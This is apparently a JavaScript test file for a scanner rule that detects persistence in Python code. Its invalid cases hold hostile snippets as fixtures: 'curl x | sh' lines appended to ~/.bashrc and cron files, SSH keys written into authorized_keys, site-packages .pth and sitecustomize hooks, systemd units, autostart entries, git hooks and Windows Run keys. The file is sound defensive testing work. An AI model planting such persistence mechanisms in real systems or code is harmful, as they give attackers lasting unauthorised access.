import { persistence } from '../../../src/detectors/python/persistence.js';
import { ruleTester } from '../../helpers/rule-tester.js';
import { PYTHON } from './adapter.js';

ruleTester(persistence, PYTHON, {
  valid: [
    {
      name: 'a checkpoint written as .pth',
      input: "import torch, os\ntorch.save(model.state_dict(), os.path.join(out_dir, 'model.pth'))\nopen('weights.pth', 'wb').write(blob)\n",
    },
    { name: 'the Hub cache written', input: "import os\nwith open(os.path.expanduser('~/.cache/huggingface/hub/version.txt'), 'w') as f:\n    f.write('1')\n" },
    {
      name: '.bashrc read, not written',
      input: "import os\nrc = open(os.path.expanduser('~/.bashrc')).read()\nlines = open(os.path.expanduser('~/.profile'), 'r').readlines()\n",
    },
    { name: 'a file named like a start-up file', input: "open('bashrc_backup.txt', 'w').write(x)\nopen('notes/profile.md', 'a')\n" },
    { name: 'a tar archive opened for writing', input: "import tarfile\ntarfile.open('site-packages/a.pth', 'w')\n" },
    { name: 'crontab listed, not installed', input: "import os\nos.system('crontab -l')\n" },
    { name: 'a git hook sample copied', input: "import shutil\nshutil.copy('hook', '.git/hooks/pre-commit.sample')\n" },
    {
      name: 'a registry value outside Run keys',
      input: "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\MyApp')\nwinreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, 'y')\n",
    },
    { name: 'logs redirected', input: "import os\nos.system('python train.py > logs/train.log 2>&1')\n" },
  ],
  invalid: [
    {
      name: 'a line appended to ~/.bashrc',
      input: "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl x | sh\\n')\n",
      errors: [{ severity: 'high', message: 'builtins.open at line 2, column 6 writes a shell start-up file: ~/.bashrc', at: 'open(' }],
    },
    {
      name: 'authorized_keys through pathlib',
      input: "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text(KEY)\n",
      errors: [{ severity: 'high', message: 'SSH authorized_keys' }],
    },
    {
      name: 'the home folder from $HOME, joined',
      input: "import os\nhome = os.environ['HOME']\nrc = os.path.join(home, '.zshrc')\nopen(rc, 'a+').write(line)\n",
      errors: [{ severity: 'high', message: '~/.zshrc' }],
    },
    {
      name: 'a .pth file in site-packages',
      input:
        "import site, os\np = os.path.join(site.getsitepackages()[0], 'zz_init.pth')\nwith open(p, 'w') as f:\n    f.write('import os; os.system(\"id\")')\n",
      errors: [{ severity: 'high', message: 'a .pth file in site-packages' }],
    },
    {
      name: 'sitecustomize.py through sysconfig',
      input: "import sysconfig, shutil\nshutil.copy('payload.py', sysconfig.get_paths()['purelib'] + '/sitecustomize.py')\n",
      errors: [{ severity: 'high', message: 'shutil.copy at line 2, column 1 writes a Python start-up hook' }],
    },
    {
      name: 'usercustomize.py through site.getusersitepackages',
      input: "import site\nfrom pathlib import Path\nPath(site.getusersitepackages()).joinpath('usercustomize.py').write_text(src)\n",
      errors: [{ severity: 'high', message: 'usercustomize.py' }],
    },
    {
      name: 'a cron file',
      input: "open('/etc/cron.d/update', 'w').write('* * * * * root curl x | sh\\n')\n",
      errors: [{ severity: 'high', message: 'a cron table' }],
    },
    {
      name: 'crontab installed by a shell pipeline',
      input: 'import subprocess\nsubprocess.run(\'(crontab -l; echo "@reboot python3 /tmp/x.py") | crontab -\', shell=True)\n',
      errors: [{ severity: 'high', message: 'installs a crontab' }],
    },
    {
      name: 'echo >> ~/.profile in os.system',
      input: 'import os\nos.system(\'echo "python3 ~/.x.py &" >> ~/.profile\')\n',
      errors: [{ severity: 'high', message: 'os.system at line 2, column 1 writes a shell start-up file: ~/.profile' }],
    },
    {
      name: 'a systemd unit and its enabling',
      input: "import os\nopen('/etc/systemd/system/upd.service', 'w').write(UNIT)\nos.system('systemctl enable upd')\n",
      errors: [
        { severity: 'high', message: 'a systemd unit' },
        { severity: 'high', message: 'enables a systemd service' },
      ],
    },
    {
      name: 'an autostart entry through an f-string',
      input: "import os\nhome = os.path.expanduser('~')\nopen(f'{home}/.config/autostart/upd.desktop', 'w').write(ENTRY)\n",
      errors: [{ severity: 'high', message: 'a desktop autostart entry' }],
    },
    {
      name: 'a git hook via os.rename',
      input: "import os\nos.rename('/tmp/h', os.path.join(repo, '.git', 'hooks', 'post-checkout'))\n",
      errors: [{ severity: 'high', message: 'a git hook' }],
    },
    {
      name: 'tee -a into authorized_keys via get_ipython',
      input: "get_ipython().system('echo ssh-ed25519 AAAA | tee -a ~/.ssh/authorized_keys')\n",
      errors: [{ severity: 'high', message: 'get_ipython().system' }],
    },
    {
      name: '%%writefile exported as run_cell_magic',
      input: "get_ipython().run_cell_magic('writefile', '-a ~/.bashrc', 'curl x | sh\\n')\n",
      errors: [{ severity: 'high', message: '%%writefile' }],
    },
    {
      name: 'a Windows Run key through winreg',
      input:
        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, exe)\n",
      errors: [{ severity: 'high', message: 'winreg.SetValueEx at line 3, column 1 writes a Windows Run registry key' }],
    },
  ],
});
